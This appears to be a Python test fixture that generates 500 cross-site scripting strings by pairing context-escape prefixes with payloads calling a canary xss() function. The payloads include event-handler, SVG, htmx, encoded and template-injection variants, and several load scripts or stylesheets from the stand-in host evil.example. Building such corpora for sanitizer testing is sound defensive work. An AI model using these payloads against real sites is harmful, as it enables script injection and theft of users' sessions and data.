"""Five hundred texts that call `xss()` if they are interpreted as more than text: payloads behind context escapes."""

from itertools import product

BREAKING_OUT = (
    *("", '"', "'", '">', "'>", "`>", "-->", "]]>", " ", "\n"),
    *("</script>", "</title>", "</textarea>", "</style>", "</template>", "\\", "\u2028"),
)
RUNNING = (
    "<script>xss()</script>",
    "<img src=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
    "<iframe src=javascript:parent.xss()></iframe>",
    "<body onload=xss()>",
    "<input autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>",
    "<video><source onerror=xss()></video>",
    "<object data=javascript:xss()></object>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<base href=//evil.example/><script src=x></script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<script src=//evil.example/x.js></script>",
    "<div hx-get=/ hx-trigger=load hx-on::before-request=xss()></div>",
    "<div hx-on:htmx:load=xss()></div>",
    '<div hx-get=/ hx-trigger=load hx-vals="js:{a: xss()}"></div>',
    "<template shadowrootmode=open><img src=x onerror=xss()></template>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    "<a id=x href=javascript:xss() autofocus onfocus=xss()>x</a>",
    "&lt;img src=x onerror=xss()&gt;",
    "&#60;img src=x onerror=xss()&#62;",
    "%3Cimg src=x onerror=xss()%3E",
    "\\u003cimg src=x onerror=xss()\\u003e",
    "+ADw-img src=x onerror=xss()+AD4-",
    "<<img/src=x onerror=xss()//",
    "<img src=x:x onerror\n=\txss() ",
    " onmouseover=xss() autofocus onfocus=xss() x=",
    "javascript:xss()",
    "data:text/html,<script>parent.xss()</script>",
    "{{ xss() }}{% debug %}${xss()}",
)
COUNT = 500
PAYLOADS = ["".join(parts) for parts in product(BREAKING_OUT, RUNNING)][:COUNT]
